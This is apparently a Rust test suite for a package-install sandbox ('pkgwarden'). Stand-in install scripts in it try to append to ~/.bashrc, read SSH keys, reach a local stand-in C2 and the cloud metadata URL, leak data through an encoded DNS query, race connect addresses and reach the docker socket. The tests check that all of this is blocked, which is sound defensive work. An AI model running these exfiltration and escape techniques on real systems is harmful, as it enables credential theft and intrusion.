//! The experimental sandbox (`pkgwarden run --sandbox`): landlock and seccomp
//! applied by the kernel, checked by a hook that tries to break out, and real
//! pip and npm installs from loopback registries that still succeed.

use crate::support;

use serde_json::Value;
use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use support::*;

/// Runs `pkgwarden run --sandbox` and returns the output and the events document.
fn sandboxed(
    env: &ShimEnv,
    mode: &str,
    args: &[&str],
    cwd: &Path,
) -> (std::process::Output, Value) {
    let events = env
        .home
        .path()
        .join(format!("events-{mode}-{}.json", args.len()));
    let out = run(env
        .pkgwarden()
        .args(["run", "--sandbox", "--mode", mode, "--events-json"])
        .arg(&events)
        .arg("--")
        .args(args)
        .current_dir(cwd));
    let doc = fs::read(&events)
        .ok()
        .and_then(|b| serde_json::from_slice(&b).ok())
        .unwrap_or_else(|| panic!("no events written:\n{}", stderr_str(&out)));
    (out, doc)
}

fn events<'a>(doc: &'a Value, kind: &str) -> Vec<&'a Value> {
    doc["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == kind)
        .collect()
}

fn touches(e: &Value, path: &Path) -> bool {
    e["paths"]
        .as_array()
        .is_some_and(|p| p.iter().any(|x| x.as_str() == path.to_str()))
}

struct Escape {
    env: ShimEnv,
    c2: TcpListener,
    _bin: tempfile::TempDir,
}

fn escape_env() -> Escape {
    let bin = tempfile::tempdir().unwrap();
    let gem = bin.path().join("gem");
    fs::copy(crate_root().join("tests/fixtures/escape/gem"), &gem).unwrap();
    fs::set_permissions(&gem, fs::Permissions::from_mode(0o755)).unwrap();
    let env = ShimEnv::new(&[bin.path()]);
    let home = env.home.path();
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_rsa"), "not a real key\n").unwrap();
    fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    let c2 = TcpListener::bind("127.0.0.1:0").unwrap();
    c2.set_nonblocking(true).unwrap();
    Escape { env, c2, _bin: bin }
}

impl Escape {
    fn run(&self, mode: &str) -> (String, Value, i32) {
        let home = self.env.home.path().to_path_buf();
        let mut cmd = self.env.pkgwarden();
        let events = home.join(format!("events-{mode}.json"));
        cmd.args(["run", "--sandbox", "--mode", mode, "--events-json"])
            .arg(&events)
            .args(["--", "gem", "install", "x"])
            .env("PY", python3())
            .env("C2_PORT", self.c2.local_addr().unwrap().port().to_string())
            .env("GEM_EXIT", "3");
        let out = run(&mut cmd);
        let doc: Value = serde_json::from_slice(&fs::read(&events).unwrap()).unwrap();
        (stdout_str(&out), doc, out.status.code().unwrap_or(-1))
    }
}

#[test]
fn protect_mode_stops_every_escape_and_records_it() {
    let e = escape_env();
    let home = e.env.home.path().to_path_buf();
    let (out, doc, code) = e.run("protect");
    // The manager's exit code is untouched.
    assert_eq!(code, 3, "{out}");
    assert!(!out.contains("ESCAPED"), "{out}");
    for line in [
        "bashrc blocked",
        "id_rsa blocked",
        "cache written",
        "io_uring_setup blocked 38",
        "unshare blocked 1",
        "ptrace blocked 1",
        "symlink blocked",
        "hardlink blocked",
        "rename blocked",
        "procfd blocked",
        "connect blocked 111",
    ] {
        assert!(out.contains(line), "missing `{line}` in\n{out}");
    }
    assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "# rc\n");
    assert_eq!(
        fs::read_to_string(home.join(".cache/tool/state")).unwrap(),
        "ok\n"
    );
    // Nothing reached the stand-in C2.
    assert!(e.c2.accept().is_err());

    // The credential read is an event with the reader's pid, an exec of cat.
    let reads: Vec<_> = events(&doc, "open-read")
        .into_iter()
        .filter(|ev| touches(ev, &home.join(".ssh/id_rsa")))
        .collect();
    assert_eq!(reads.len(), 1, "{doc:#}");
    let reader = reads[0]["pid"].as_i64().unwrap();
    let execs = events(&doc, "exec");
    assert!(
        execs.iter().any(|x| x["pid"].as_i64() == Some(reader)
            && x["paths"][0].as_str().unwrap().ends_with("/cat")),
        "the reader's exec is not recorded"
    );
    // The write attempt on .bashrc is an event too.
    assert!(
        events(&doc, "open-write")
            .iter()
            .any(|ev| touches(ev, &home.join(".bashrc")))
    );
    // Denied syscalls carry their errno.
    let denied: Vec<(String, i64)> = events(&doc, "denied")
        .iter()
        .map(|d| {
            (
                d["syscall"].as_str().unwrap().to_string(),
                d["errno"].as_i64().unwrap(),
            )
        })
        .collect();
    for want in [("io_uring_setup", 38), ("unshare", 1), ("ptrace", 1)] {
        assert!(denied.contains(&(want.0.to_string(), want.1)), "{denied:?}");
    }
    let c2 = format!("127.0.0.1:{}", e.c2.local_addr().unwrap().port());
    assert!(
        events(&doc, "connect")
            .iter()
            .any(|c| c["addr"] == c2.as_str() && c["action"] == "denied")
    );
    assert_eq!(doc["landlock"]["filesystem"], true);
}

#[test]
fn audit_mode_denies_nothing_but_records_everything() {
    let e = escape_env();
    let home = e.env.home.path().to_path_buf();
    let (out, doc, code) = e.run("audit");
    assert_eq!(code, 3);
    assert!(out.contains("bashrc ESCAPED"), "{out}");
    assert!(out.contains("id_rsa ESCAPED"), "{out}");
    assert!(out.contains("connect ESCAPED"), "{out}");
    assert!(
        fs::read_to_string(home.join(".bashrc"))
            .unwrap()
            .contains("evil")
    );
    assert!(
        events(&doc, "open-read")
            .iter()
            .any(|ev| touches(ev, &home.join(".ssh/id_rsa")))
    );
    assert!(
        events(&doc, "denied")
            .iter()
            .all(|d| d["action"] == "observed")
    );
    assert!(
        events(&doc, "denied")
            .iter()
            .any(|d| d["syscall"] == "unshare")
    );
}

#[test]
fn pip_install_succeeds_in_the_sandbox() {
    let index = PypiIndex::start(&["pwdemo"]);
    let probe_home = TestHome::new();
    let venv = venv(&probe_home);
    let env = ShimEnv::new(&[&venv.join("bin")]);
    let (out, doc) = sandboxed(
        &env,
        "protect",
        &[
            "pip",
            "install",
            "--index-url",
            &index.index_url(),
            "pwdemo",
        ],
        env.home.path(),
    );
    assert_success(&out, "sandboxed pip install");
    assert!(index.was_downloaded("pwdemo"));
    let site: PathBuf = fs::read_dir(venv.join("lib"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path()
        .join("site-packages");
    assert!(site.join("pwdemo/__init__.py").is_file());
    // pip wrote the package, and the events say so.
    assert!(events(&doc, "open-write").iter().any(|e| {
        e["paths"][0]
            .as_str()
            .unwrap()
            .starts_with(site.to_str().unwrap())
    }));
    // pip's only way out was the proxy: its connections went there (made by
    // the supervisor), and the proxy saw the registry by name, from pip's pid.
    let connects = events(&doc, "connect");
    assert!(!connects.is_empty());
    assert!(connects.iter().all(|c| c["action"] == "allowed"));
    let requests = doc["requests"].as_array().unwrap();
    assert!(!requests.is_empty(), "{doc:#}");
    for r in requests {
        assert_eq!(r["host"], "127.0.0.1");
        assert_eq!(r["port"].as_u64(), Some(u64::from(index.port())));
        assert_eq!(r["verdict"], "allowed");
        assert!(r["pid"].as_i64().is_some(), "{r}");
        assert!(r["bytes_down"].as_u64().unwrap() > 0);
    }
    // A real install from a loopback index: clean.
    assert!(
        stderr_str(&out).contains(" — clean · "),
        "{}",
        stderr_str(&out)
    );
}

#[test]
fn npm_install_with_a_postinstall_hook_succeeds_and_the_hook_is_confined() {
    // A package whose postinstall tries to append to ~/.bashrc and reports.
    let hook = "node -e \"try{require('fs').appendFileSync(process.env.HOME+'/.bashrc','evil');console.log('HOOK ESCAPED')}catch(e){console.log('HOOK blocked '+e.code)}\"";
    let pkg = NpmPackage::new(
        serde_json::json!({
            "name": "pw-hook", "version": "1.0.0",
            "scripts": {"preinstall": "node -e \"console.log('PRE ran')\"", "postinstall": hook}
        }),
        &[("index.js", b"module.exports = 1;\n")],
    );
    let registry = NpmRegistry::start_with(vec![pkg]);
    let env = ShimEnv::new(&[]);
    fs::write(env.home.path().join(".bashrc"), "# rc\n").unwrap();
    let project = env.home.subdir("proj");
    fs::write(
        project.join("package.json"),
        r#"{"name":"proj","version":"1.0.0"}"#,
    )
    .unwrap();
    let (out, doc) = sandboxed(
        &env,
        "protect",
        &[
            "npm",
            "install",
            "--foreground-scripts",
            "--registry",
            &registry.registry_url(),
            "pw-hook",
        ],
        &project,
    );
    assert_success(&out, "sandboxed npm install");
    assert!(project.join("node_modules/pw-hook/index.js").is_file());
    assert!(
        stdout_str(&out).contains("HOOK blocked EACCES"),
        "{}",
        stdout_str(&out)
    );
    assert_eq!(
        fs::read_to_string(env.home.path().join(".bashrc")).unwrap(),
        "# rc\n"
    );
    // The lifecycle script ran under npm: its shell's exec is recorded.
    assert!(events(&doc, "exec").iter().any(|e| {
        e["argv"].as_array().is_some_and(|a| {
            a.iter()
                .any(|w| w.as_str().is_some_and(|w| w.contains("appendFileSync")))
        })
    }));
    assert!(
        events(&doc, "open-write")
            .iter()
            .any(|e| touches(e, &env.home.path().join(".bashrc")))
    );
}

#[test]
fn without_its_supervisor_the_sandbox_fails_closed() {
    // The stand-in waits until the supervisor is gone, then tries to exec:
    // every trapped syscall now fails instead of running unwatched.
    // Its result file is opened while the supervisor is alive: afterwards even
    // an open would fail.
    let script = "#!/bin/sh\nexec 3> \"$HOME/work/exec-result\"\ntouch \"$HOME/work/started\"\nwhile [ ! -e \"$HOME/work/go\" ]; do :; done\n/bin/echo unwatched >&3 2>/dev/null || echo \"exec failed\" >&3\ntouch \"$HOME/work/done\" 2>/dev/null\necho end >&3\n";
    let (env, _bin) = stand_in(script);
    let home = env.home.path().to_path_buf();
    let mut cmd = env.pkgwarden();
    cmd.args(["run", "--sandbox", "--", "gem", "install", "x"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut child = cmd.spawn().unwrap();
    wait_for(&home.join("work/started"), "the stand-in start");
    child.kill().unwrap();
    child.wait().unwrap();
    // `go` is created from outside the sandbox (the sandbox could not).
    fs::write(home.join("work/go"), "").unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !fs::read_to_string(home.join("work/exec-result"))
        .unwrap_or_default()
        .ends_with("end\n")
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the stand-in never finished"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(
        fs::read_to_string(home.join("work/exec-result")).unwrap(),
        "exec failed\nend\n"
    );
    // Creating a file failed too.
    assert!(!home.join("work/done").exists());
}

#[test]
fn a_detached_process_is_reported_and_killed_in_block_mode() {
    let script = "#!/bin/sh\nsetsid sleep 300 </dev/null >/dev/null 2>&1 &\nexit 0\n";
    for mode in ["protect", "block"] {
        let (env, _bin) = stand_in(script);
        let (out, doc) = sandboxed(&env, mode, &["gem", "install", "x"], env.home.path());
        // A process left running is a finding: block mode fails the install.
        let want = if mode == "block" { 90 } else { 0 };
        assert_eq!(out.status.code(), Some(want), "{}", stderr_str(&out));
        let lingering = doc["lingering"].as_array().unwrap();
        let sleeper = lingering
            .iter()
            .find(|l| l["argv"][0] == "sleep")
            .unwrap_or_else(|| panic!("{mode}: no lingering sleep in {doc:#}"));
        let pid = sleeper["pid"].as_i64().unwrap();
        let alive = Path::new(&format!("/proc/{pid}")).exists()
            && !fs::read_to_string(format!("/proc/{pid}/stat"))
                .unwrap_or_default()
                .contains(") Z ");
        if mode == "block" {
            assert!(!alive, "block mode left {pid} running");
        } else {
            assert!(alive, "protect mode reports, it does not kill");
            let _ = std::process::Command::new("kill")
                .arg(pid.to_string())
                .status();
        }
        assert!(
            stderr_str(&out).contains("proc.lingering"),
            "{}",
            stderr_str(&out)
        );
    }
}

#[test]
fn a_thread_swapping_the_connect_address_never_reaches_its_target() {
    // One thread connects to the one allowed address (the proxy) over and
    // over while another rewrites the port in the same sockaddr buffer to a
    // stand-in C2.
    let script = r#"#!/bin/sh
exec "$PY" - <<'PY'
import ctypes, os, socket, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
def sa(port):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + b"\0" * 8
proxy_port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
good, bad = sa(proxy_port), sa(int(os.environ["C2_PORT"]))
buf = ctypes.create_string_buffer(good, 16)
def attempt():
    s = socket.socket()
    r = libc.connect(s.fileno(), buf, 16)
    s.close()
    return r == 0
# Undisturbed first: the allowed address is reachable.
print("calm", sum(attempt() for _ in range(5)))
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, bad, 16)
        ctypes.memmove(buf, good, 16)
t = threading.Thread(target=flip)
t.start()
ok = sum(attempt() for _ in range(300))
stop = True
t.join()
print("connected", ok)
PY
"#;
    let (env, _bin) = stand_in(script);
    let c2 = TcpListener::bind("127.0.0.1:0").unwrap();
    c2.set_nonblocking(true).unwrap();
    let events_path = env.home.path().join("race.json");
    let out = run(env
        .pkgwarden()
        .args(["run", "--sandbox", "--events-json"])
        .arg(&events_path)
        .args(["--", "gem", "install", "x"])
        .env("PY", python3())
        .env("C2_PORT", c2.local_addr().unwrap().port().to_string()));
    assert_success(&out, "racing connects");
    let c2_count = std::iter::from_fn(|| c2.accept().ok()).count();
    assert_eq!(c2_count, 0, "a swapped address reached the C2");
    let text = stdout_str(&out);
    let number = |prefix: &str| -> usize {
        text.lines()
            .find_map(|l| l.strip_prefix(prefix))
            .unwrap_or_else(|| panic!("no `{prefix}` in {text}"))
            .parse()
            .unwrap()
    };
    assert_eq!(number("calm "), 5, "the allowed address was not reachable");
    let connected = number("calm ") + number("connected ");
    let doc: Value = serde_json::from_slice(&fs::read(&events_path).unwrap()).unwrap();
    let allowed = events(&doc, "connect")
        .iter()
        .filter(|c| c["action"] == "allowed")
        .count();
    assert_eq!(allowed, connected);
}

#[test]
fn a_pip_sdist_runs_its_build_backend_inside_the_sandbox() {
    let index = PypiIndex::start(&[]);
    index.add_sdist("pwsdist");
    let probe_home = TestHome::new();
    let venv = venv(&probe_home);
    let env = ShimEnv::new(&[&venv.join("bin")]);
    let home = env.home.path().to_path_buf();
    fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    // The backend keeps its marker in a cache of its own that exists (package
    // code makes no new entry beside pip's cache; see tests/nest.rs).
    fs::create_dir_all(home.join(".cache/pwsdist")).unwrap();
    // An in-tree backend with no build requirements: nothing else to download.
    let (out, doc) = sandboxed(
        &env,
        "protect",
        &[
            "pip",
            "install",
            "--index-url",
            &index.index_url(),
            "pwsdist",
        ],
        &home,
    );
    assert_success(&out, "sandboxed sdist install");
    // pip imports the backend once per hook (requirements, metadata, wheel).
    let ran = fs::read_to_string(home.join(".cache/pwsdist/ran")).unwrap();
    assert!(
        !ran.is_empty() && ran.lines().all(|l| l == "backend ran"),
        "{ran}"
    );
    assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "# rc\n");
    // The build ran in a Python started by pip, in pip's unpacked sdist, and
    // its write attempt on .bashrc is an event of that process.
    let writer = events(&doc, "open-write")
        .into_iter()
        .find(|e| touches(e, &home.join(".bashrc")))
        .map(|e| e["pid"].as_i64().unwrap())
        .expect("the .bashrc attempt is recorded");
    let procs = doc["processes"].as_array().unwrap();
    let builder = procs
        .iter()
        .rev()
        .find(|n| n["pid"].as_i64() == Some(writer))
        .unwrap();
    assert!(
        builder["exe"].as_str().unwrap().contains("python"),
        "{builder:#}"
    );
    assert!(
        builder["cwd"].as_str().unwrap().contains("pwsdist"),
        "{builder:#}"
    );
}

#[test]
fn a_quiet_install_prints_exactly_what_the_bare_manager_prints() {
    let index = PypiIndex::start(&["pwdemo"]);
    let probe_home = TestHome::new();
    let v1 = venv(&probe_home);
    let v2 = venv(&probe_home);
    let env = ShimEnv::new(&[&v1.join("bin")]);
    let args = [
        "install",
        "--no-cache-dir",
        "--index-url",
        &index.index_url(),
        "pwdemo",
    ];
    let bare = run(env.bare(venv_bin(&v2, "pip")).args(args));
    assert_success(&bare, "bare pip install");
    let (out, _) = sandboxed(
        &env,
        "protect",
        &[&["pip"][..], &args[..]].concat(),
        env.home.path(),
    );
    assert_success(&out, "sandboxed pip install");
    assert_eq!(stdout_str(&out), stdout_str(&bare));
    // stderr: the manager's (nothing here), then pkgwarden's one line.
    assert_eq!(stderr_str(&bare), "");
    assert_eq!(stderr_str(&out).lines().count(), 1, "{}", stderr_str(&out));
}

#[test]
fn a_prompt_is_answered_through_a_terminal() {
    // The stand-in asks on the terminal and reads the answer from stdin, as
    // `npm init` or a conda confirmation does.
    let (env, _bin) = stand_in(
        "#!/bin/sh\nprintf 'Proceed ([y]/n)? '\nread ans\necho \"answer=$ans\"\n[ -t 0 ] && echo stdin-is-a-tty\n",
    );
    let driver = r#"
import os, pty, sys, time
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
out = b""
deadline = time.time() + 20
while b"Proceed" not in out and time.time() < deadline:
    out += os.read(fd, 1024)
os.write(fd, b"y\n")
while time.time() < deadline:
    try:
        chunk = os.read(fd, 1024)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
_, status = os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
sys.stdout.write("\nexit=%d\n" % os.waitstatus_to_exitcode(status))
"#;
    let out = run(env
        .bare(python3())
        .arg("-c")
        .arg(driver)
        .arg(pkgwarden_bin())
        .args(["run", "--sandbox", "--", "gem", "install", "x"]));
    let text = stdout_str(&out);
    assert!(text.contains("answer=y"), "{text}");
    assert!(text.contains("stdin-is-a-tty"), "{text}");
    assert!(text.contains("exit=0"), "{text}");
}

#[test]
fn ctrl_z_stops_the_install_and_fg_resumes_it() {
    // An interactive shell with job control on a terminal: Ctrl-Z stops the
    // whole foreground job (pkgwarden, the manager and its children), `fg`
    // resumes it, and the manager's exit code still comes back.
    let (env, _bin) = stand_in("#!/bin/sh\necho \"pid=$$\"\nsleep 2\necho finished\nexit 7\n");
    let driver = r#"
import os, pty, re, sys, time
pid, fd = pty.fork()
if pid == 0:
    os.execvp("bash", ["bash", "--norc", "--noprofile", "-i"])
out = b""
def until(pattern, seconds):
    global out
    deadline = time.time() + seconds
    while not re.search(pattern, out) and time.time() < deadline:
        try:
            out += os.read(fd, 1024)
        except OSError:
            break
    return re.search(pattern, out)
os.write(fd, (" ".join(sys.argv[1:]) + "\n").encode())
m = until(rb"pid=(\d+)", 30)
if not m:
    sys.exit("no pid: %r" % out)
child = int(m.group(1))
os.write(fd, b"\x1a")
if not until(rb"Stopped", 10):
    sys.exit("no Stopped: %r" % out)
# The manager is stopped, or waits on its stopped supervisor (a vfork
# parent whose child's exec is trapped): either way it does not run.
# The signal reaches it a moment after the shell says Stopped.
deadline = time.time() + 3
while True:
    with open("/proc/%d/stat" % child) as f:
        state = f.read().rsplit(")", 1)[1].split()[0]
    if state in "TD" or time.time() > deadline:
        break
    time.sleep(0.05)
print("state=" + state)
time.sleep(2.5)
print("finished-while-stopped=%s" % (b"finished" in out))
os.write(fd, b"fg\n")
until(rb"finished", 30)
os.write(fd, b"echo rc=$?\n")
until(rb"rc=\d+", 10)
os.write(fd, b"exit\n")
os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
"#;
    let out = run(env
        .bare(python3())
        .arg("-c")
        .arg(driver)
        .arg(pkgwarden_bin())
        .args(["run", "--sandbox", "--", "gem", "install", "x"]));
    let text = stdout_str(&out);
    let state = text
        .lines()
        .find_map(|l| l.strip_prefix("state="))
        .unwrap_or_else(|| panic!("{text}\n{}", stderr_str(&out)));
    assert!(
        matches!(state, "T" | "D"),
        "the manager ran on ({state}):\n{text}"
    );
    assert!(text.contains("finished-while-stopped=False"), "{text}");
    assert!(text.contains("finished\r\n"), "{text}");
    assert!(text.contains("rc=7"), "{text}");
}

#[test]
fn a_hook_fetching_an_unexpected_host_is_refused_and_attributed() {
    // A stand-in C2 on another loopback address, and a cloud metadata URL.
    let c2 = TcpListener::bind("127.0.0.2:0").unwrap();
    c2.set_nonblocking(true).unwrap();
    let script = r#"#!/bin/sh
exec "$PY" - <<'PY'
import os, urllib.request, urllib.error
for url in os.environ["URLS"].split():
    try:
        urllib.request.urlopen(url, timeout=10)
        print(url, "ESCAPED")
    except urllib.error.HTTPError as e:
        print(url, "refused", e.code)
    except Exception as e:
        print(url, "failed", e)
print("pid", os.getpid())
PY
"#;
    let c2_url = format!("http://{}/exfil?d=secret", c2.local_addr().unwrap());
    let metadata = "http://169.254.169.254/latest/meta-data/";
    for mode in ["protect", "audit"] {
        let (env, _bin) = stand_in(script);
        let events_path = env.home.path().join("net.json");
        let out = run(env
            .pkgwarden()
            .args(["run", "--sandbox", "--mode", mode, "--events-json"])
            .arg(&events_path)
            .args(["--", "gem", "install", "x"])
            .env("PY", python3())
            .env("URLS", format!("{c2_url} {metadata}")));
        assert_success(&out, "stand-in with requests");
        let text = stdout_str(&out);
        assert!(
            text.contains(&format!("{c2_url} refused 403")),
            "{mode}: {text}"
        );
        assert!(
            text.contains(&format!("{metadata} refused 403")),
            "{mode}: {text}"
        );
        assert!(c2.accept().is_err(), "{mode}: the C2 was reached");
        let pid: i64 = text
            .lines()
            .find_map(|l| l.strip_prefix("pid "))
            .unwrap()
            .parse()
            .unwrap();
        let doc: Value = serde_json::from_slice(&fs::read(&events_path).unwrap()).unwrap();
        let requests = doc["requests"].as_array().unwrap();
        let to_c2 = requests
            .iter()
            .find(|r| r["host"] == "127.0.0.2")
            .unwrap_or_else(|| panic!("{mode}: {doc:#}"));
        assert_eq!(to_c2["verdict"], "denied");
        // The supervisor made the connection to the proxy (in audit too),
        // so it knows whose it is.
        assert_eq!(to_c2["pid"].as_i64(), Some(pid), "{mode}");
        let to_metadata = requests
            .iter()
            .find(|r| r["host"] == "169.254.169.254")
            .unwrap();
        assert_eq!(to_metadata["verdict"], "denied");
        assert!(to_metadata["reason"].as_str().unwrap().contains("metadata"));
    }
}

#[test]
fn secrets_in_the_environment_do_not_reach_install_scripts() {
    let (env, _bin) = stand_in("#!/bin/sh\nenv | cut -d= -f1 | sort > \"$HOME/work/env-names\"\n");
    let events_path = env.home.path().join("env.json");
    let out = run(env
        .pkgwarden()
        .args(["run", "--sandbox", "--events-json"])
        .arg(&events_path)
        .args(["--", "gem", "install", "x"])
        .env("GITHUB_TOKEN", "ghp_not_a_real_token")
        .env("AWS_SECRET_ACCESS_KEY", "not-a-real-key")
        .env("MY_SERVICE_API_KEY", "k")
        .env("AWS_REGION", "eu-west-1")
        .env("HARMLESS", "1"));
    assert_success(&out, "stand-in");
    let seen = fs::read_to_string(env.home.path().join("work/env-names")).unwrap();
    let names: Vec<&str> = seen.lines().collect();
    for gone in [
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "MY_SERVICE_API_KEY",
    ] {
        assert!(!names.contains(&gone), "{gone} reached the script");
    }
    for kept in ["HARMLESS", "AWS_REGION", "HTTPS_PROXY"] {
        assert!(names.contains(&kept), "{kept} is missing");
    }
    // The report names what was removed, never the values.
    let text = fs::read_to_string(&events_path).unwrap();
    assert!(!text.contains("ghp_not_a_real_token") && !text.contains("not-a-real-key"));
    let doc: Value = serde_json::from_str(&text).unwrap();
    let removed: Vec<&str> = doc["env"]["removed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(removed.contains(&"GITHUB_TOKEN") && removed.contains(&"AWS_SECRET_ACCESS_KEY"));
}

#[test]
fn the_docker_socket_is_refused_and_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let sock_path = dir.path().join("docker.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock_path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = r#"#!/bin/sh
exec "$PY" - <<'PY'
import os, socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(os.environ["DOCKER_HOST"][len("unix://"):])
    print("docker ESCAPED")
except OSError as e:
    print("docker blocked", e.errno)
PY
"#;
    let (env, _bin) = stand_in(script);
    let events_path = env.home.path().join("docker.json");
    let out = run(env
        .pkgwarden()
        .args(["run", "--sandbox", "--events-json"])
        .arg(&events_path)
        .args(["--", "gem", "install", "x"])
        .env("PY", python3())
        .env("DOCKER_HOST", format!("unix://{}", sock_path.display())));
    assert!(
        stdout_str(&out).contains("docker blocked 13"),
        "{}",
        stdout_str(&out)
    );
    assert!(listener.accept().is_err());
    let doc: Value = serde_json::from_slice(&fs::read(&events_path).unwrap()).unwrap();
    let want = format!("unix:{}", sock_path.display());
    assert!(
        events(&doc, "connect")
            .iter()
            .any(|c| c["addr"] == want.as_str() && c["action"] == "denied"),
        "{doc:#}"
    );
}

#[test]
fn block_mode_stops_the_same_escapes_and_writes_only_where_the_install_may() {
    let e = escape_env();
    let home = e.env.home.path().to_path_buf();
    let (out, doc, code) = e.run("block");
    // Every attempt is a finding, so block mode fails the install with its
    // reserved code (the manager's own 3 is in the report).
    assert_eq!(code, 90, "{out}");
    assert!(!out.contains("ESCAPED"), "{out}");
    for line in [
        "bashrc blocked",
        "id_rsa blocked",
        "unshare blocked 1",
        "connect blocked 111",
    ] {
        assert!(out.contains(line), "missing `{line}` in\n{out}");
    }
    // Block mode grants no write in HOME outside the plan (a gem stand-in has none).
    assert!(!out.contains("cache written"), "{out}");
    assert!(!home.join(".cache/tool/state").exists());
    assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "# rc\n");
    assert!(
        events(&doc, "open-read")
            .iter()
            .any(|ev| touches(ev, &home.join(".ssh/id_rsa")))
    );
}

#[test]
fn a_dns_query_is_refused_and_recorded_with_its_name() {
    let resolver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver.set_nonblocking(true).unwrap();
    // A query for a name whose first label encodes data, sent to a stand-in resolver.
    let script = r#"#!/bin/sh
exec "$PY" - <<'PY'
import os, socket, struct
label = b"c2VjcmV0LXRva2VuLXZhbHVlLXRoYXQtaXMtbG9uZy1lbm91Z2gtdG8tbm90"
q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for part in (label, b"exfil", b"example"):
    q += bytes([len(part)]) + part
q += b"\0" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(q, ("127.0.0.1", int(os.environ["DNS_PORT"])))
    print("dns ESCAPED")
except OSError as e:
    print("dns blocked", e.errno)
PY
"#;
    let (env, _bin) = stand_in(script);
    let events_path = env.home.path().join("dns.json");
    let out = run(env
        .pkgwarden()
        .args(["run", "--sandbox", "--events-json"])
        .arg(&events_path)
        .args(["--", "gem", "install", "x"])
        .env("PY", python3())
        .env(
            "DNS_PORT",
            resolver.local_addr().unwrap().port().to_string(),
        ));
    assert!(
        stdout_str(&out).contains("dns blocked"),
        "{}",
        stdout_str(&out)
    );
    let mut buf = [0u8; 512];
    assert!(
        resolver.recv(&mut buf).is_err(),
        "the query reached the resolver"
    );
    let doc: Value = serde_json::from_slice(&fs::read(&events_path).unwrap()).unwrap();
    let dns = events(&doc, "dns");
    assert_eq!(dns.len(), 1, "{doc:#}");
    assert_eq!(
        dns[0]["dns_query"],
        "c2VjcmV0LXRva2VuLXZhbHVlLXRoYXQtaXMtbG9uZy1lbm91Z2gtdG8tbm90.exfil.example"
    );
    assert_eq!(dns[0]["action"], "denied");
}
